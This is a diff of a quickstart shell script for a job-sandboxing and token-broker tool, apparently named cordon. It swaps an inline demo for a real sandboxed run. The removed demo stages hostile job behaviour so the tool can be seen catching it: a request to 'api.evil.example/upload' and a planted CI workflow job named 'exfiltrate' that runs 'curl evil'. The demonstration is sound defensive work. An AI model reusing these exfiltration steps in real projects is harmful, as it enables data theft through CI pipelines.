@@ -68,11 +68,6 @@ status() {
 case "${1:-start}" in
 stop)
 	say "stopping the services"
-	# The example's workspace holds a tmpfs mount: remove it first.
-	if running hatch && [ -f "$var/broker/keys/launcher.key" ]; then
-		curl -s -X DELETE -H "Authorization: Bearer $(cat "$var/broker/keys/launcher.key")" \
-			http://127.0.0.1:7703/v1/workspaces/quickstart >/dev/null || true
-	fi
 	for svc in $services; do stop_one "$svc"; done
 	stop_one upstream
 	exit 0
@@ -170,79 +165,48 @@ out=$(curl -s -X PUT -H "$A" $B/v1/manifests/careless \
 show "a careless one is refused, every problem at once:"
 sed 's/},{/}\n{/g' <<<"$out" | sed -n 's/.*"field":"\([^"]*\)","problem":"\([^"]*\)".*/      \1: \2/p'
 echo
-job=$(curl -s -X POST -H "$L" -d '{"manifest": "support-triage"}' $B/v1/jobs | field job)
-show "the launcher creates job $job (15-minute deadline, 30 s lease)"
 P=http://127.0.0.1:7702
-chan=$(curl -s -X POST -H "$L" $P/v1/jobs/$job | field channel)
-[ -n "$chan" ] || fail "the proxy opened no channel for $job: see ./var/log/proxy.log"
-show "the proxy opens its channel, ${chan#"$top"/}, and makes a CA for its hosts alone"
-# What the job's relay does: a forward-proxy request on the channel.
-through() { # METHOD URL [curl args...]
-	local m=$1 u=$2 hp
-	shift 2
-	hp=${u#http://}
-	hp=${hp%%/*}
-	curl -s --max-time 5 --unix-socket "$chan" -X "$m" --request-target "$u" \
-		-H "Host: $hp" "$@" "http://$hp/"
-}
-echo
-echo "  identity: the job asks for a capability, not a credential"
-tok=$(through POST http://broker.cordon/v1/token -H "X-Cordon-Job: someone-else" \
-	-d '{"capability": "invoices.read", "params": {"tenant": "4182"}}')
-token=$(field access_token <<<"$tok")
-[ -n "$token" ] || fail "no token through the channel: $tok"
-show "it asks http://broker.cordon for \"invoices.read, tenant 4182\": a token for ${token:0:8}…, expires in $(field expires_in <<<"$tok") s"
-show "  (it claimed to be someone else; the token is bound to the channel's job: $(curl -s -X POST -H "$V" -d "{\"token\": \"$token\"}" $B/v1/introspect | field job))"
-out=$(through POST http://broker.cordon/v1/token \
-	-d '{"capability": "invoices.read", "params": {"tenant": "9999"}}')
-show "it asks for tenant 9999: $(field error <<<"$out") (refused, never narrowed)"
-echo
-echo "  reachability: default deny, every decision a log line"
-out=$(through GET http://invoices.internal:7780/invoices/4182.json -H "Authorization: Bearer $token")
-show "GET invoices.internal/invoices/4182.json with its token: $out"
-show "GET api.evil.example/upload: $(through GET http://api.evil.example/upload -o /dev/null -D - | sed -n 's/^X-Cordon-Deny: *//p' | tr -d '\r') (refused)"
-show "GET invoices.internal/admin: $(through GET http://invoices.internal:7780/admin -o /dev/null -D - | sed -n 's/^X-Cordon-Deny: *//p' | tr -d '\r') (refused)"
-show "the proxy's decisions for the job (GET $P/v1/jobs/$job/log):"
-curl -s -H "$L" $P/v1/jobs/$job/log | sed 's/},{/}\n{/g' |
-	sed -n 's/.*"kind":"\([^"]*\)","method":"\([^"]*\)","host":"\([^"]*\)".*"path":"\([^"]*\)".*"decision":"\([^"]*\)","reason":\([^,]*\),.*"status":\([0-9]*\).*/      \5  \2 \3\4  reason=\6 status=\7/p' | tr -d '"'
-echo
-echo "  stop means burn"
-out=$(curl -s -X POST -H "$A" -d '{"reason": "quickstart"}' $B/v1/jobs/$job/revoke)
-show "an operator revokes the job: $(field tokens_revoked <<<"$out") token(s) revoked; acknowledged by: $(sed -n 's/.*"acknowledged":\[\([^]]*\)\].*/\1/p' <<<"$out" | tr -d '"')"
-show "the same token replayed at the broker: active=$(curl -s -X POST -H "$V" -d "{\"token\": \"$token\"}" $B/v1/introspect | field active)"
-if through GET http://invoices.internal:7780/invoices/4182.json -H "Authorization: Bearer $token" >/dev/null 2>&1; then
-	show "the same token through the job's channel: answered (it should not be)"
+if [ "$(id -u)" != 0 ]; then
+	show "the job itself runs in a sandbox of namespaces and mounts: run the"
+	show "quickstart as root to see it (the services above keep running)"
 else
-	show "the same token through the job's channel: nothing answers, the channel is closed"
-fi
-show "the audit chain verifies: ok=$(curl -s -H "$A" "$B/v1/audit?verify=1" | field ok)"
-show "the token's value is in no file cordon wrote: $(grep -rlF "$token" "$var" 2>/dev/null | wc -l) files"
-echo
-echo "  the return path: the hatch copies an input in and seals what was written"
-H=http://127.0.0.1:7703
-curl -s -X DELETE -H "$L" $H/v1/workspaces/quickstart >/dev/null
-out=$(curl -s -X POST -H "$L" $H/v1/workspaces -d "{\"job\": \"quickstart\",
-	\"inputs\": [{\"src\": \"$top/deploy/examples/repo\", \"dst\": \"repo\"}], \"disk_mb\": 16}")
-upper=$(field upper <<<"$out")
-if [ -z "$upper" ]; then
-	# Not root, say: the hatch mounts a tmpfs per workspace.
-	show "the hatch could not make a workspace: $(field message <<<"$out")"
-	show "(it mounts a tmpfs per job: run the quickstart as root to see this part)"
-else
-	show "copied deploy/examples/repo in; the job's writes will land on a 16 MB tmpfs"
-	# Standing in for the job until the launcher lands: writes in the upper layer.
-	mkdir -p "$upper/repo/src" "$upper/repo/.github/workflows"
-	printf 'def total(invoices):\n    return round(sum(i["amount"] for i in invoices), 2)\n' \
-		>"$upper/repo/src/report.py"
-	printf 'on: push\njobs: {exfiltrate: {runs-on: ubuntu-latest, steps: [{run: "curl evil"}]}}\n' \
-		>"$upper/repo/.github/workflows/ci.yml"
-	report=$(curl -s -X POST -H "$L" $H/v1/workspaces/quickstart/seal)
-	show "the job edited src/report.py and wrote a CI workflow; sealed:"
-	show "  verdict: $(field verdict <<<"$report")"
-	sed 's/},{/}\n{/g' <<<"$report" | sed -n 's/.*"path":"\([^"]*\)","flag":"\([^"]*\)".*/      flag \2: \1/p'
-	curl -s -H "$L" $H/v1/workspaces/quickstart/patch >"$var/quickstart.patch"
-	show "the patch ($(wc -l <"$var/quickstart.patch") lines, ./var/quickstart.patch), for a person to read:"
-	sed -n '1,24p' "$var/quickstart.patch" | sed 's/^/      /'
+	echo "  the job: cordon run --manifest support-triage -- /bin/sh jobs/triage.sh"
+	show "(deploy/examples/jobs/triage.sh: reads its input, asks for a capability,"
+	show " calls an API, tries a host off its list, edits a file, writes a workflow)"
+	cat >"$var/launcher.json" <<JSON
+{"state_dir": "$var/launcher", "launcher_key_file": "$K/launcher.key"}
+JSON
+	# Long step: the sandbox is built, the job runs, the stop path runs.
+	show "running… (the sandbox is built, the job runs, the stop path runs)"
+	result=$("$top/$build/bin/cordon" run --json --config "$var/launcher.json" \
+		--manifest support-triage --patch-out "$var/quickstart.patch" \
+		--input "$top/deploy/examples/repo:repo" --input "$top/deploy/examples/jobs:jobs" \
+		-- /bin/sh jobs/triage.sh) || true
+	job=$(field job <<<"$result")
+	[ -n "$job" ] || fail "cordon run gave no result: $result"
+	show "job $job ran in namespaces of its own, as a uid of its own, with an"
+	show "empty environment, wired only to its proxy channel"
+	echo "  what it printed (untrusted output, escapes removed):"
+	python3 -c 'import json,sys; print(json.load(sys.stdin)["output"]["stdout"]["text"], end="")' \
+		<<<"$result" | sed 's/^/      /'
+	token=$(python3 -c 'import json,sys; t=json.load(sys.stdin)["output"]["stdout"]["text"]
+for l in t.splitlines():
+    print(l[6:]) if l.startswith("token=") else None' <<<"$result")
+	echo
+	echo "  reachability: the proxy's decisions for the job (GET $P/v1/jobs/$job/log)"
+	curl -s -H "$L" $P/v1/jobs/$job/log | sed 's/},{/}\n{/g' |
+		sed -n 's/.*"kind":"\([^"]*\)","method":"\([^"]*\)","host":"\([^"]*\)".*"path":"\([^"]*\)".*"decision":"\([^"]*\)","reason":\([^,]*\),.*"status":\([0-9]*\).*/      \5  \2 \3\4  reason=\6 status=\7/p' | tr -d '"'
+	echo
+	echo "  stop means burn: the stop path ran in order (revoke, kill, close, seal)"
+	show "stopped by: $(field stop_reason <<<"$result"), exit $(field exit_code <<<"$result"); $(field tokens_revoked <<<"$result") token(s) revoked at the broker"
+	show "the token it printed, replayed at the broker: active=$(curl -s -X POST -H "$V" -d "{\"token\": \"$token\"}" $B/v1/introspect | field active)"
+	show "its channel: $(curl -s -H "$L" $P/v1/jobs/$job/log | field state), nothing passes for the job any more"
+	show "the audit chain verifies: ok=$(curl -s -H "$A" "$B/v1/audit?verify=1" | field ok)"
+	echo
+	echo "  the return path: what the job wrote, as a patch for a person"
+	show "verdict: $(field verdict <<<"$result")"
+	show "the patch ($(wc -l <"$var/quickstart.patch") lines, ./var/quickstart.patch):"
+	sed -n '1,30p' "$var/quickstart.patch" | sed 's/^/      /'
 fi
 echo
 for svc in $services; do
